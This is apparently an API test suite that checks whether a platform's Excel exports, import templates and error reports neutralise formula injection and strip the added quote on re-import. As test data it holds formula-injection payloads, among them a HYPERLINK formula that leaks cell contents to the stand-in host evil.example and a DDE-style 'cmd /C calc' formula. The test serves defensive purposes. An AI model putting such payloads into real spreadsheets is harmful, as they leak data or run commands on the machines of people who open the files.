import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { beforeAll, describe, expect, it } from 'vitest';
import { apiSuite } from '../../support/api/apiSuite.js';
import { releasedDesign } from '../../visualdev/api/releasedDesign.js';
import { testDatabases } from '../../support/api/testDatabases.js';

/**
 * Every workbook the server writes for download neutralises formula injection (OWASP "CSV injection"): a text
 * cell starting with =, +, -, @, tab or CR gets a leading ', numbers stay numeric cells, and importing our own
 * export back strips that ' again.
 */
const ONLINE = '/api/visualdev/OnlineDev';
const USERS = '/api/permission/Users';
const TABLE = 'vd_export_injection';
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")';

const form = {
  fields: [
    { __config__: { jnpfKey: 'comInput', label: '标题', required: true }, __vModel__: 'title', maxlength: 100 },
    { __config__: { jnpfKey: 'comInput', label: '+备注' }, __vModel__: 'note' },
    { __config__: { jnpfKey: 'numInput', label: '金额' }, __vModel__: 'amount' },
  ],
};
const list = {
  type: 1,
  searchList: [],
  columnList: [
    { prop: 'title', label: '标题', sortable: true },
    { prop: 'note', label: '+备注' },
    { prop: 'amount', label: '金额' },
  ],
  btnsList: [{ value: 'add' }, { value: 'download' }, { value: 'upload' }],
  columnBtnsList: [],
  sidx: 'title',
  sort: 'asc',
  hasPage: true,
  pageSize: 20,
};

function multipart(fileName: string, content: Buffer) {
  const boundary = '----labcode-export-injection';
  const payload = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: application/octet-stream\r\n\r\n`),
    content,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

describe.each(testDatabases())('exports neutralise formula injection on $name', (testDb) => {
  const suite = apiSuite(testDb);
  const db = () => suite.database.db;
  let designId: string;
  const fetchFile = async (url: string) => (await suite.app.inject({ method: 'GET', url, headers: { authorization: suite.admin } })).rawPayload;
  const sheetOf = async (url: string) => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await fetchFile(url)) as unknown as ArrayBuffer);
    return book.worksheets[0];
  };
  /** Row n's cells (1-based) as values, the header being row 1. */
  const values = (sheet: ExcelJS.Worksheet, n: number) => (sheet.getRow(n).values as unknown[]).slice(1);

  beforeAll(async () => {
    designId = await releasedDesign(suite, { fullName: '导出注入', enCode: 'export_injection', form, list });
    const records: [string, string, number][] = [
      ['a1', HYPERLINK, -12.5],
      ['a2', '+SUM(1,2)', 0],
      ['a3', '-2+3', 3],
      ['a4', '@cmd', -1],
      ['a5', 'tab', 1],
      ['a6', 'cr', 2],
      ['a7', '-12.5', 4],
      ['a8', '普通', 5],
    ];
    for (const [title, note, amount] of records) {
      const answer = await suite.call(suite.admin, 'POST', `${ONLINE}/${designId}`, { data: JSON.stringify({ title, note, amount }) });
      expect(answer.code, answer.msg).toBe(200);
    }
    // Tab and CR arrive with data from elsewhere (a form may trim them); the database holds them as they are.
    await sql`update ${sql.table(TABLE)} set note = ${'\t=1+1'} where note = 'tab'`.execute(db());
    await sql`update ${sql.table(TABLE)} set note = ${'\r=1+1'} where note = 'cr'`.execute(db());
  });

  it('quotes formula-like text in an online-development export and keeps numbers numeric', async () => {
    const answer = await suite.call(suite.admin, 'POST', `${ONLINE}/${designId}/Actions/ExportData`, { dataType: '0', currentPage: 1, pageSize: 20, sidx: 'title', sort: 'asc' });
    expect(answer.code, answer.msg).toBe(200);
    const sheet = await sheetOf(answer.data.url);
    expect(values(sheet, 1)).toEqual(['标题', "'+备注", '金额']);
    const rows = Array.from({ length: 8 }, (_, i) => values(sheet, i + 2));
    expect(rows).toEqual([
      ['a1', `'${HYPERLINK}`, -12.5],
      ['a2', "'+SUM(1,2)", 0],
      ['a3', "'-2+3", 3],
      ['a4', "'@cmd", -1],
      ['a5', "'\t=1+1", 1],
      // An .xlsx gives a CR back as LF (XML normalises line ends); the quote is what matters.
      ['a6', "'\n=1+1", 2],
      // A plain number written as text runs nothing: it stays as it is (spreadsheetCell.ts).
      ['a7', '-12.5', 4],
      ['a8', '普通', 5],
    ]);
    // A negative amount is a number cell, not text a formula-guard turned into "'-12.5".
    expect(sheet.getRow(2).getCell(3).type).toBe(ExcelJS.ValueType.Number);
    expect(sheet.getRow(2).getCell(2).type).toBe(ExcelJS.ValueType.String);
  });

  it('imports its own export back with the quotes stripped', async () => {
    const answer = await suite.call(suite.admin, 'POST', `${ONLINE}/${designId}/Actions/ExportData`, { dataType: '0', currentPage: 1, pageSize: 20, sidx: 'title', sort: 'asc' });
    const content = await fetchFile(answer.data.url);
    const body = multipart('export.xlsx', content);
    const uploaded = (await suite.app.inject({ method: 'POST', url: `${ONLINE}/${designId}/Uploader`, headers: { authorization: suite.admin, ...body.headers }, payload: body.payload })).json();
    expect(uploaded.code, uploaded.msg).toBe(200);
    const preview = await suite.call(suite.admin, 'GET', `${ONLINE}/${designId}/ImportPreview?fileName=${uploaded.data.name}`);
    expect(preview.code, preview.msg).toBe(200);
    // The header "'+备注" is read as the label +备注 again, so the column is found.
    expect(preview.data.dataRow.map((r: { note: string }) => r.note)).toEqual([HYPERLINK, '+SUM(1,2)', '-2+3', '@cmd', '\t=1+1', '\n=1+1', '-12.5', '普通']);
    expect(preview.data.dataRow[0].amount).toBe('-12.5');
  });

  it('quotes formula-like text in the users export, the import template and the error report', async () => {
    await db().updateTable('base_user').set({ real_name: '=1+1', description: '@SUM(A1:A9)' }).where('account', '=', 'staff').execute();
    const exported = await suite.call(suite.admin, 'GET', `${USERS}/ExportExcel?keyword=staff&selectKey=account,realName,description,sortCode`);
    expect(exported.code, exported.msg).toBe(200);
    const users = await sheetOf(exported.data.url);
    expect(values(users, 1)).toEqual(['账号', '姓名', '排序', '说明']);
    expect(values(users, 2)).toEqual(['staff', "'=1+1", expect.any(Number), "'@SUM(A1:A9)"]);

    const template = await suite.call(suite.admin, 'GET', `${ONLINE}/${designId}/TemplateDownload`);
    expect(values(await sheetOf(template.data.url), 1)).toEqual(['标题', "'+备注", '金额']);

    const failures = [{ title: '-1', note: '=cmd|\' /C calc\'!A0', amount: '-3', errorsInfo: '-错误' }];
    const report = await suite.call(suite.admin, 'POST', `${ONLINE}/${designId}/ImportExceptionData`, { list: failures });
    expect(report.code, report.msg).toBe(200);
    const sheet = await sheetOf(report.data.url);
    expect(values(sheet, 1)).toEqual(['标题', "'+备注", '金额', '错误信息']);
    expect(values(sheet, 2)).toEqual(['-1', "'=cmd|' /C calc'!A0", '-3', "'-错误"]);
  });
});
